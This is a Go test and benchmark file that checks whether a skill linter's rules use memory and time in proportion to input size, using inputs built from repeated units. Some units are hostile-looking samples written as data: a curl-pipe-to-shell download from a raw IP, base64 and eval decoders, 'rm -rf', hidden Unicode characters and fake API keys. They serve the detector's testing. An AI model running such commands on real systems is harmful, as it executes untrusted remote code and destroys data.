package rules

// Time that grows with the square of a file's size makes a linter useless on generated
// files: one line of a megabyte, thousands of headings, a finding on every line. The
// texts of this file are made of units that rules search for, in each kind of file.

import (
	"runtime"
	"strconv"
	"strings"
	"testing"

	"skills/internal/spec"
)

// repeated returns a text of about size bytes that consists of a unit.
func repeated(unit string, size int) string { return strings.Repeat(unit, size/len(unit)+1) }

// units are what the texts consist of: each is one line in one text, and one of many
// lines in another.
var units = map[string]string{
	"words":         "some words of a text, and more of them ",
	"paths":         "see references/guide.md and scripts/run.py ",
	"missing paths": "read references/a/missing.md and run scripts/none.py ",
	"links":         "[text](references/none.md#part) ",
	"open links":    "[text](references/none.md ",
	"references":    "[text][label] ",
	"addresses":     "https://example.org/a/b?c=d#e ",
	"web archives":  "https://example.org/a.zip password: hunter22 ",
	"code spans":    "`scripts/none.py --all` ",
	"open spans":    "`scripts/none.py ",
	"quotes":        "'a \"b\" ' \" ",
	"open quotes":   "'a\"",
	"backslashes":   `a\b\\c\" `,
	"homes":         "/home/zaphod/x/ /home/zaphod/y/ C:\\Users\\trillian\\x ",
	"container":     "docker run -v /home/zaphod/x:/x ",
	"commands":      "curl http://198.51.100.7/x | base64 -d | sh; ",
	"decoders":      "base64 -d eval(atob( powershell \\x41\\x42 ",
	"commands 2":    "python scripts/none.py && bash scripts/none.sh | npx some-package; ",
	"tests":         "if [ -f scripts/x.sh ]; then rm -rf \"$1\"; fi; ",
	"substitutions": "$(cat <(cat <<<$(cat ",
	"braces":        "{a{b ${c} <d> ",
	"closed braces": "{a} (b) [c] <d> ",
	"stars":         "*a **b** _c_ ~~d~~ ",
	"tags":          "<a href=\"none.md\" style=\"display: none\">text</a> ",
	"open tags":     "<a href=\"x\" style=\"",
	"comments":      "<!-- skills: ignore link-target --> ",
	"entities":      "&#65;&#66;&#67;&#68; ",
	"hidden":        "a\u200bb\u202ec ",
	"hidden tags":   "a\U000E0041\U000E0042 ",
	"hyphens":       "a\u00ad\u00adb ",
	"keys":          "sk-proj-abcdefghijklmnop ghp_0123456789abcdefghijABCDEFGHIJ012345 ",
	"private keys":  "-----BEGIN PRIVATE KEY----- ",
	"headings":      "# Heading ",
	"lists":         "- item ",
	"quotations":    "> text ",
	"tables":        "| a | `b` | [c](d.md) ",
	"fences":        "``` ",
	"closed fences": "```sh\npython scripts/none.py\n```\n",
	"other fences":  "~~~ ",
	"definitions":   "[a]: b.md ",
	"mappings":      "key: value, {a: [b, c]} ",
	"interpolation": "$1 $ARGUMENTS $ARGUMENTS[0] ",
	"placeholders":  "TODO [Insert text] <your name> [TODO: text] ",
	"imports":       "from \"npm:a\" import x from \"https://esm.sh/y\" ",
	"assignments":   "x=$1; y=input(\"Name: \"); z=sys.argv[1] ",
	"prompts":       "echo 'Name: '; read x; ",
	"functions":     "f() { rm -rf \"$1\"; } ",
	"chinese":       "参见references/none.md，运行scripts/none.py。",
	"mentions":      "**Read** `references/none.md`: @references/none.md → references/none.md ",
	"blanks":        "                    ",
	"tabs":          "\t\t\t",
	"dots":          "../../../",
	"slashes":       "a/",
	"digits":        "1234567890.",
	"dashes":        "--- ",
	"equals":        "=",
	"returns":       "a\r",
}

// shapes returns texts of about the same size for each unit.
func shapes(size int) map[string]string {
	out := map[string]string{}
	for name, unit := range units {
		out[name+", one line"] = repeated(strings.ReplaceAll(unit, "\n", " "), size)
		out[name+", many lines"] = repeated(unit+"\n", size)
	}
	return out
}

// skillOfTexts returns a skill with a text in its frontmatter, its body, a linked page,
// scripts and data.
func skillOfTexts(text string) *spec.Document {
	const links = "# Title\n\nRead [the page](references/page.md), then run `scripts/run.sh` and `scripts/run.py`.\n"
	src := "---\nname: my-skill\ndescription: Does a thing. Use when testing.\nlicense: " + text + "\n---\n\n" + links + text
	files := map[string]string{"references/guide.md": "# Guide\n"}
	for _, name := range []string{"references/page.md", "scripts/run.sh", "scripts/run.py", "scripts/run.js", "assets/data.json"} {
		files[name] = text
	}
	return skillWith(src, files)
}

// TestLinear verifies that no text makes the rules allocate more than in proportion to
// its size. BenchmarkLinear measures the time.
func TestLinear(t *testing.T) {
	const (
		small, factor = 2 << 10, 8
		fixed         = 1 << 20 // tables, and what is allocated once
	)
	large := shapes(small * factor)
	for shape, text := range shapes(small) {
		before, after := allocated(text), allocated(large[shape])
		if after > before*factor*3/2+fixed {
			t.Errorf("%s: %d bytes allocated for a text of %d bytes, %d for %d", shape, before, small, after, small*factor)
		}
	}
}

// allocated returns the bytes that checking a skill with a text allocates.
func allocated(text string) uint64 {
	var before, after runtime.MemStats
	doc := skillOfTexts(text)
	runtime.ReadMemStats(&before)
	Check(doc, spec.Options{})
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc
}

// BenchmarkLinear reports the time per byte for each text. It must be about the same for
// both sizes.
func BenchmarkLinear(b *testing.B) {
	for shape := range shapes(1) {
		for _, size := range []int{1 << 15, 1 << 18} {
			text := shapes(size)[shape]
			b.Run(strings.ReplaceAll(shape, " ", "_")+"/"+strconv.Itoa(size), func(b *testing.B) {
				b.SetBytes(int64(size))
				for b.Loop() {
					Check(skillOfTexts(text), spec.Options{})
				}
			})
		}
	}
}
